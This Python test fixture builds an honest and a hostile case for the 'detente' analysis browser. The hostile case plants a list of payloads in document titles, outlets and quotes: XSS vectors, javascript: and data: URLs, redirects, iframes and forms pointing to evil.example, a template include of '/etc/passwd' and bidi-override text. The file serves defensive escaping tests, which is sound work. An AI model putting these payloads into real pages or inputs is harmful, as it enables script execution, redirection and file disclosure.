"""Cases for the browser: an honest one with a bargaining table and imported events, and a hostile one."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import numpy as np

from detente.feeds.table import mapped
from detente.ledger.case import Case
from detente.ledger.intake import take_in
from detente.records import Document, Made, Party, Statement, record_id, span
from detente.snapshots.feeds_in import import_feed

REPORTS = Path(__file__).parents[2] / "src" / "detente" / "examples" / "anchorage" / "reports"
MAPPING = 'scheme = "plover"\n[columns]\ndate = "when"\nsource = "who"\ntarget = "whom"\ncode = "event"\n'
TABLE = """actor,issue,position,salience,capability,low,high,status_quo,present,mark,source
RUS,borders,0..15,0.8..1,0.3,0,100,20,yes,edited,by hand
UKR,borders,75..100,0.9..1,0.2,0,100,20,yes,edited,by hand
USA,borders,20..45,0.3..0.5,1,0,100,20,yes,edited,by hand
EU,borders,60..90,0.5..0.8,0.6,0,100,20,no,edited,by hand
"""
RUN = "window.ran=1"
SENTENCES = (
    "President Aro Bel met Minister Cato Dune in Geneva on 4 March 2001, a spokesman said.",
    "The president of Sudan and the president of Egypt spoke by phone on 5 March 2001.",
    "Russia's foreign minister said Moscow demands an immediate ceasefire and rejects talks in Vienna.",
    "Ukraine accepted Geneva as a venue for talks, the foreign minister of Ukraine said on 6 March 2001.",
    "The United States imposed new sanctions on Russia on 7 March 2001.",
    "Vlаdimir Putіn met Donald Тrump in Helsinki on 8 March 2001, the Kremlin said.",  # Cyrillic а, і, Т
    "“We offer talks in Riyadh if the other side withdraws its troops,” the president of Ukraine said.",
)
ATTACKS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    "<b hx-get='/export' hx-trigger='load' hx-target='body'>hx</b>",
    "<style>body{display:none}*{background:url(https://evil.example/s)}</style>",
    f"<a href='javascript:{RUN}'>a</a><a href='data:text/html,<script>{RUN}</script>'>b</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>",
    "<iframe src='https://evil.example'></iframe><form action='https://evil.example'><input name=reason>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}‮txet desrever‬\ufeff",
    "]]></title></textarea></svg>--><plaintext>",
)
LONG = 10_000_000


def honest(folder: Path) -> Path:
    """Two months of reports, a table of its own, and three years of imported events between twelve pairs."""
    case = folder / "case"
    with Case.create(case, name="A case in the browser") as made:
        take_in(made, [str(path) for path in sorted(REPORTS.glob("2025-0[38]*.md"))], workers=1)
        (folder / "mapping.toml").write_text(MAPPING, "utf-8")
        import_feed(made, mapped(folder / "mapping.toml"), events(folder / "events.csv"), threads=1)
    (case / "bargain.csv").write_text(TABLE, "utf-8")
    return case


def events(path: Path) -> Path:
    """Pairs that meet often to seldom, with sanctions now and then; the first pair meets more in its last year."""
    random = np.random.default_rng(1)
    with path.open("w", newline="") as file:
        out = csv.writer(file)
        out.writerow(["when", "who", "whom", "event"])
        for day in range(1100):
            when = dt.date(2022, 8, 1) + dt.timedelta(days=day)
            for pair in range(30):
                names = ("USA", "RUS") if pair == 0 else (f"A{pair}", f"B{pair}")
                more = 3 if pair == 0 and day > 800 else 1
                if random.random() < 0.15 * 0.85**pair * more:
                    out.writerow([when, *names, "CONSULT"])
                if random.random() < 0.005:
                    out.writerow([when, *reversed(names), "SANCTION"])
    return path


def hostile(folder: Path) -> Path:
    """A case whose every text tries to run something: in titles, outlets, names and quotes."""
    case, files = folder / "hostile", []
    for number, attack in enumerate(ATTACKS):
        told = [each.replace(" on ", f" {attack} on ", 1) for each in SENTENCES]
        text = "\n\n".join([*told, *SENTENCES, f"“{attack}”, the foreign minister of Sudan said."])
        head = f"Title: {attack} and friends\nOutlet: {attack}\nDate: 2001-03-{number + 10}\n\n"
        files.append(folder / f"hostile-{number}.txt")
        files[-1].write_text(head + text, "utf-8")
    with Case.create(case, name=f"A <i onclick={RUN}>case</i>") as made:
        intake = take_in(made, [str(path) for path in files], workers=1)
        assert not intake.failures, intake.failures
        document, records = one_long_line()
        made.ledger.add_document(document, records, {"by hand": "1"})
    return case


def one_long_line() -> tuple[Document, list[Statement]]:
    """Ten million characters without a space, and a speaker whose name has no end."""
    text = "x" * LONG
    name = "N" * 3000
    document = Document(id="f" * 64, text=text, title="T" * 3000, outlet="O" * 3000, published="2001-03-30")
    whole = span(text, 150_000, 350_000, document.id)
    said = Statement(
        id=record_id("statement", document.id),
        span=whole,
        made=Made(reader="test"),
        source=Party(name=name),
        cue=None,
        content=(whole,),
        form="direct",
        act="demand",
    )
    return document, [said]
